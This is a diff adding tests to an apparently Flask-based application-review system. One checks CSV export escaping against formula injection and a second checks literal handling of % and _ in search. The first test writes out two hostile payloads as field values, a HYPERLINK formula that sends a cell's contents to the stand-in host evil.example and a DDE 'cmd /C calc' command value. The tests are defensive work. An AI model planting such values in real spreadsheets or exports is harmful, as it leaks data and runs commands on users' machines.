@@ -73,3 +73,26 @@ def test_statistics_page(submit_case, officer, decide):
     decide(app_id, "complete", project_code="2026-330109-38-03-012345")
     page = officer.get("/review/stats").get_data(as_text=True)
     assert "一次通过率" in page and "100%" in page and "<svg" in page
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(submit_case, officer):
+    steps = domestic_steps()
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    steps["project"]["project_name"] = evil
+    steps["enterprise"]["enterprise_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    submit_case(steps)
+    rows = list(csv.reader(io.StringIO(officer.get("/review/?format=csv").data.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + evil
+    assert rows[1][2].startswith("'@")
+    assert rows[1][11] == "0"  # numbers stay numbers
+
+
+def test_percent_and_underscore_in_a_search_are_literal(submit_case, officer):
+    steps = domestic_steps()
+    steps["project"]["project_name"] = "100%_纯电项目"
+    submit_case(steps)
+    submit_case()
+    assert "共 2 件" in officer.get("/review/?q=").get_data(as_text=True)
+    assert "共 1 件" in officer.get("/review/?q=0%25_").get_data(as_text=True)
+    assert "共 1 件" in officer.get("/review/?q=%25").get_data(as_text=True)
+    assert "共 1 件" in officer.get("/review/?q=_").get_data(as_text=True)
